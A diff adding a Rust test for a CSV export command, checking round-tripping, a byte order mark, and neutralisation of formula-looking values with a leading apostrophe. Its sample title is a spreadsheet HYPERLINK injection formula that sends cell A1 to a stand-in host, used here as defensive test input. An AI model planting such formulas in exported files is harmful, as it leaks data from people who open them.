@@ -154,3 +154,66 @@ fn format_follows_the_extension_and_an_unknown_one_is_an_error() {
         "{\"id\":\"a\"}\n"
     );
 }
+
+/// Issue 15: a CSV read back with the `csv` crate gives the record's values, formula-looking
+/// texts neutralised with a leading `'` (kept as they are with `--raw`), numbers left alone,
+/// embedded newlines quoted, ids text; `--bom` starts the file with a byte order mark.
+#[test]
+fn csv_round_trips_and_is_excel_safe() {
+    let title = "=HYPERLINK(\"http://x/?d=\"&A1,\"Click\")";
+    let record = serde_json::json!({
+        "id": "0012",
+        "title": title,
+        "text": "line one\nline \"two\", with comma",
+        "author": {"handle": "@maria"},
+        "sentiment": {"score": -0.4, "label": "negative"},
+        "tags": ["-x", "y"],
+    });
+    let input = format!("{record}\n");
+    let columns = "id,title,text,author.handle,sentiment.score,sentiment.label,tags";
+    let read = |args: &[&str]| {
+        let out = earful()
+            .args(["export", "--columns", columns])
+            .args(args)
+            .write_stdin(input.clone())
+            .assert()
+            .success()
+            .get_output()
+            .stdout
+            .clone();
+        let mut reader = csv::Reader::from_reader(&out[..]);
+        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+        assert_eq!(rows.len(), 1);
+        (out, rows[0].iter().map(str::to_owned).collect::<Vec<_>>())
+    };
+    let (_, safe) = read(&[]);
+    assert_eq!(
+        safe,
+        [
+            "0012",
+            &format!("'{title}"),
+            "line one\nline \"two\", with comma",
+            "'@maria",
+            "-0.4",
+            "negative",
+            "'-x | y",
+        ]
+    );
+    let (_, raw) = read(&["--raw"]);
+    assert_eq!(
+        raw,
+        [
+            "0012",
+            title,
+            "line one\nline \"two\", with comma",
+            "@maria",
+            "-0.4",
+            "negative",
+            "-x | y",
+        ]
+    );
+    let (bytes, _) = read(&["--bom"]);
+    assert!(bytes.starts_with("\u{feff}id,".as_bytes()));
+    let (bytes, _) = read(&[]);
+    assert!(bytes.starts_with(b"id,"));
+}
